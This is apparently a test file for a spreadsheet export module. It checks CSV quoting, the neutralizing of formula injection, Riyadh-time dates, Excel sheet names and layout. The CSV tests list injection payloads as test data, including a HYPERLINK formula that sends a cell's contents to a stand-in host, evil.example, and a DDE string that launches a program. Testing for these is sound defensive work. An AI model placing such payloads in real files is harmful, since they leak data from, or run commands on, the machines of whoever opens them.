// The spreadsheet writers' own rules: CSV cells quoted and neutralized, a byte-order mark first; Excel
// sheet names within Excel's limits and distinct; instants written in Riyadh time; a table without a
// header row, headings and headers inside a table, and a row of its own kinds.
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvCell, csvSink, riyadhDateTime, sheetName, xlsxSink } from '../../electron/services/exports/table-file';

describe('CSV', () => {
  it('quotes what needs quoting and neutralizes formulas', () => {
    expect(csvCell('محمد')).toBe('محمد');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    for (const formula of ['=1+1', '+966500000000', '-2', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(formula).replace(/^"/, '').startsWith("'")).toBe(true);
  });

  /**
   * The cells a spreadsheet would see when it splits a line on `separator`, honouring quotes only at
   * the start of a cell (as Excel does): how a file written with commas reads in a locale that
   * separates with semicolons, and the other way round.
   */
  function cellsSplitOn(line: string, separator: ',' | ';'): string[] {
    const cells: string[] = [];
    let index = 0;
    while (index <= line.length) {
      let cell = '';
      if (line[index] === '"') {
        index += 1;
        while (index < line.length && !(line[index] === '"' && line[index + 1] !== '"')) {
          cell += line[index];
          index += line[index] === '"' ? 2 : 1;
        }
        index += 1;
      }
      while (index < line.length && line[index] !== separator) cell += line[index++];
      cells.push(cell);
      index += 1;
    }
    return cells;
  }

  /** Every cell of every line (a line break inside a cell starts a new line for a reader that lost track of the quotes). */
  const cellsOf = (file: string, separator: ',' | ';') => file.split(/\r\n|\r|\n/).flatMap((line) => cellsSplitOn(line, separator));
  /** What a spreadsheet runs as a formula: a cell starting, after spaces or quotes, with = + - @ or a tab. */
  const runsAsFormula = (cell: string) => /^[ "]*[=+\-@\t\r]/.test(cell);

  it('neutralizes a formula hidden behind a separator, a quote or a line break inside a cell', async () => {
    const attacks = [
      'a;=HYPERLINK("http://evil.example/?"&A1,"انقر")',
      'x,=1+1',
      'x;+1',
      'x; -2+3',
      'x;@SUM(A1:A9)',
      'x;"=1+1',
      'x;\t=1',
      'سطر\n=cmd|\' /C calc\'!A0',
      'x\r@SUM(1)',
      ';;=1',
      'x;"";=2',
    ];
    for (const attack of attacks) {
      const sink = csvSink();
      sink.startTable('t', [
        { header: 'أ', kind: 'text', width: 10 },
        { header: 'ب', kind: 'text', width: 10 },
      ]);
      sink.addRow(['قبل', attack]);
      sink.addRow([attack, 'بعد']);
      const file = (await sink.finish()).toString('utf8').replace(/^\ufeff/, '');
      for (const separator of [',', ';'] as const) {
        expect(cellsOf(file, separator).filter(runsAsFormula), `${JSON.stringify(attack)} split on ${separator}`).toEqual([]);
      }
    }
  });

  it('leaves text without a hidden formula as it was typed', () => {
    for (const plain of ['محمد; أحمد', 'a,b;c', '2026-11-22', 'رقم 45/ق/1448', 'x - y', 'A-1;B-2']) {
      const cell = csvCell(plain);
      expect(cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell).toBe(plain);
    }
  });

  it('writes one table with a byte-order mark, numbers as numbers and instants in Riyadh time', async () => {
    const sink = csvSink();
    sink.startTable('t', [
      { header: 'الاسم', kind: 'text', width: 10 },
      { header: 'العدد', kind: 'number', width: 10 },
      { header: 'الوقت', kind: 'instant', width: 10 },
      { header: 'اليوم', kind: 'date', width: 10 },
    ]);
    sink.addRow(['فاطمة', -3, '2026-11-22T21:30:00.000Z', '2026-11-23']);
    sink.addRow([null, null, null, null]);
    const text = (await sink.finish()).toString('utf8');
    expect(text).toBe('\ufeffالاسم,العدد,الوقت,اليوم\r\nفاطمة,-3,2026-11-23 00:30,2026-11-23\r\n,,,\r\n');
    expect(() => sink.startTable('again', [])).toThrow();
  });

  it('writes a table without its header row, and a row in kinds of its own', async () => {
    const sink = csvSink();
    sink.startTable('t', [
      { header: 'البند', kind: 'text', width: 10 },
      { header: 'القيمة', kind: 'number', width: 10 },
    ], { header: false });
    sink.addRow(['الفترة', 'هذه الفترة'], { style: 'header' });
    sink.addRow(['=عنوان'], { style: 'heading' });
    sink.addRow(['من', '2026-11-22T21:30:00.000Z'], { kinds: [undefined, 'instant'] });
    sink.addRow(['العدد', 4]);
    expect((await sink.finish()).toString('utf8')).toBe("\ufeffالفترة,هذه الفترة\r\n'=عنوان\r\nمن,2026-11-23 00:30\r\nالعدد,4\r\n");
  });

  it('shows an instant as the Riyadh date and time', () => {
    expect(riyadhDateTime('2026-11-22T20:59:00Z')).toBe('2026-11-22 23:59');
    expect(riyadhDateTime('2026-11-22T21:00:00Z')).toBe('2026-11-23 00:00');
  });
});

describe('Excel sheet names', () => {
  it('drops the characters Excel refuses, keeps 31 characters and never repeats a name', () => {
    expect(sheetName('الشكاوى/المقترحات [2026]', new Set())).toBe('الشكاوى المقترحات  2026');
    expect(sheetName('x'.repeat(40), new Set())).toHaveLength(31);
    expect(sheetName('Requests', new Set(['requests']))).toBe('Requests 2');
    expect(sheetName('', new Set())).toBe('Sheet');
  });
});

describe('Excel tables', () => {
  it('opens even when a text holds what XML cannot (U+FFFE, U+FFFF), as text kept before the contract refused it may', async () => {
    const sink = xlsxSink({ rightToLeft: true });
    sink.startTable('t', [{ header: 'h', kind: 'text', width: 10 }]);
    sink.addRow(['x\uFFFFy\uFFFEz']);
    sink.addRow(['\u{1F600} تم']);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await sink.finish()) as unknown as ArrayBuffer);
    expect(workbook.worksheets[0]!.getRow(2).getCell(1).value).toBe('x\uFFFDy\uFFFDz');
    expect(workbook.worksheets[0]!.getRow(3).getCell(1).value).toBe('\u{1F600} تم');
  });

  it('writes a sheet without a header row, headings and headers as text, a date in a text column, a breakdown set in', async () => {
    const sink = xlsxSink({ rightToLeft: true });
    sink.startTable('عن الملف', [
      { header: '', kind: 'text', width: 20 },
      { header: '', kind: 'number', width: 12 },
    ], { header: false });
    sink.addRow(['العنوان'], { style: 'heading' });
    sink.addRow(['البند', 'هذه الفترة'], { style: 'header' });
    sink.addRow(['من يوم', '2026-11-22'], { kinds: [undefined, 'date'] });
    sink.addRow(['منها', 3], { indent: true });
    sink.addRow(['الإجمالي', 7], { style: 'total' });
    sink.startTable('ثانية', [{ header: 'البند', kind: 'text', width: 20 }]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await sink.finish()) as unknown as ArrayBuffer);
    const [about, second] = workbook.worksheets;
    expect(about!.views[0]).toMatchObject({ rightToLeft: true });
    expect(about!.views[0]?.state).not.toBe('frozen');
    expect(about!.getRow(1).getCell(1).value).toBe('العنوان');
    expect(about!.getRow(1).font?.bold).toBe(true);
    expect(about!.getRow(2).getCell(2).value).toBe('هذه الفترة');
    expect(about!.getRow(3).getCell(2).value).toEqual(new Date('2026-11-22T00:00:00Z'));
    expect(about!.getRow(3).getCell(2).numFmt).toBe('yyyy-mm-dd');
    expect(about!.getRow(4).getCell(2).value).toBe(3);
    expect(about!.getRow(4).getCell(1).alignment?.indent).toBe(2);
    expect(about!.getRow(5).font?.bold).toBe(true);
    expect(second!.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(second!.getRow(1).getCell(1).value).toBe('البند');
  });
});
